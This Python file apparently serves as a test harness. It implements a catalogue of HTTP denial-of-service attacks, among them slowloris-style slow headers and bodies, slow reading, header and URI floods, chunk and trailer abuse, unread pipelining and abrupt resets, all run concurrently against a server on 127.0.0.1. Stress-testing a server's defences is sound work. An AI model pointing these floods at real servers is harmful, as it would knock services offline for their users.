"""The attackers: each keeps so many connections at work until it is ended. Run as a process of its own."""

from __future__ import annotations

import argparse
import asyncio
import socket
from collections.abc import Awaitable, Callable
from contextlib import suppress
from itertools import count
from typing import Any

Line = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Attack = Callable[[Line], Awaitable[None]]

HOST = b"Host: 127.0.0.1\r\n"
GET = b"GET /api/product HTTP/1.1\r\n" + HOST
PUT = b"PUT /api/upload HTTP/1.1\r\n" + HOST
SMALL = GET + b"\r\n"
CHUNKED = PUT + b"Transfer-Encoding: chunked\r\n\r\n"
FOREVER_S = 3600.0


async def never_speaks(line: Line) -> None:
    """Connects, and that is all."""
    await line[0].read()


async def slow_head(line: Line) -> None:
    """A head that never ends, a field every second."""
    line[1].write(GET)
    while not line[0].at_eof():
        line[1].write(b"X-a: b\r\n")
        await line[1].drain()
        await asyncio.sleep(1)


async def slow_body(line: Line) -> None:
    """A body that comes a byte a second."""
    line[1].write(PUT + b"Content-Length: 1000000\r\n\r\n")
    while not line[0].at_eof():
        line[1].write(b"x")
        await line[1].drain()
        await asyncio.sleep(1)


async def slow_reader(line: Line) -> None:
    """Asks for a hundred megabytes, which no buffer takes, and reads a hundred bytes a second."""
    line[1].write(b"GET /api/files/100m HTTP/1.1\r\n" + HOST + b"\r\n")
    while await line[0].read(100):
        await asyncio.sleep(1)


async def header_flood(line: Line) -> None:
    """Heads that are too large, again and again."""
    line[1].write(GET + b"X-Flood: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n" * 2000)
    await line[0].read()


async def uri_flood(line: Line) -> None:
    """Targets that never end."""
    line[1].write(b"GET /" + b"a" * 1_000_000)
    await line[0].read()


async def chunks_of_one(line: Line) -> None:
    """An endless body in chunks of a byte."""
    await _endless(line, CHUNKED, b"1\r\nx\r\n" * 10_000)


async def chunk_extensions(line: Line) -> None:
    """Chunks of a byte with extensions of kilobytes."""
    await _endless(line, CHUNKED, b"1;" + b"a" * 16_000 + b"\r\nx\r\n")


async def trailers(line: Line) -> None:
    """Trailers that never end."""
    await _endless(line, CHUNKED + b"0\r\n", b"X-Trailer: a\r\n" * 1000)


def _read_nothing(line: Line) -> None:
    transport: Any = line[1].transport  # a socket's can be read as well
    transport.pause_reading()


async def pipelined_unread(line: Line) -> None:
    """Many requests at once, and no answer is ever read."""
    _read_nothing(line)
    await _endless(line, b"", SMALL * 2000)


async def pipelined_odd(line: Line) -> None:
    """The same with heads that take the longer way."""
    _read_nothing(line)
    await _endless(line, b"", (GET + b"te: trailers\r\n\r\n") * 2000)


async def continue_abandoned(line: Line) -> None:
    """Asks whether it may send, is told so, and leaves."""
    line[1].write(PUT + b"Expect: 100-continue\r\nContent-Length: 1000000\r\n\r\n")
    await line[0].read(10)
    line[1].transport.abort()


async def open_and_close(line: Line) -> None:
    """Connects and leaves at once."""


async def asks_and_resets(line: Line) -> None:
    """Asks, and resets before the answer is there."""
    line[1].write(SMALL)
    await asyncio.sleep(0)
    line[1].transport.abort()


async def requests(line: Line) -> None:
    """As many requests as it can."""
    while True:
        line[1].write(SMALL)
        if not await line[0].read(65536):
            return


async def _endless(line: Line, head: bytes, piece: bytes) -> None:
    line[1].write(head)
    while not line[0].at_eof():
        line[1].write(piece)
        await line[1].drain()


CATALOGUE: dict[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        never_speaks, slow_head, slow_body, slow_reader, header_flood, uri_flood, chunks_of_one, chunk_extensions,
        trailers, pipelined_unread, pipelined_odd, continue_abandoned, open_and_close, asks_and_resets, requests,
    )
}  # fmt: skip


class Flood:
    """So many lines at once, each of which is begun again when it ends; `addresses` of the attacker take turns."""

    def __init__(self, attack: Attack, port: int, lines: int, addresses: int) -> None:
        self._attack = attack
        self._port = port
        self._lines = lines
        self._addresses = addresses
        self._next = count()

    async def run(self) -> None:
        """Go on until the process is ended."""
        await asyncio.gather(*(self._line() for _ in range(self._lines)))

    async def _line(self) -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                await self._once()
            await asyncio.sleep(0.001)

    async def _once(self) -> None:
        number = next(self._next) % self._addresses
        own = (f"127.0.{2 + number // 250}.{1 + number % 250}", 0)
        made = socket.socket()
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 * 1024)
        made.setblocking(False)
        try:
            made.bind(own)
            await asyncio.get_running_loop().sock_connect(made, ("127.0.0.1", self._port))
            line = await asyncio.open_connection(sock=made, limit=1024)
        except BaseException:
            made.close()
            raise
        try:
            await self._attack(line)
        finally:
            line[1].transport.abort()


def main() -> None:
    """Attack as the command line tells."""
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=CATALOGUE)
    for name in ("port", "lines", "addresses"):
        parser.add_argument(f"--{name}", type=int)
    told = parser.parse_args()
    asyncio.run(Flood(CATALOGUE[told.attack], told.port, told.lines, told.addresses).run())


if __name__ == "__main__":
    main()
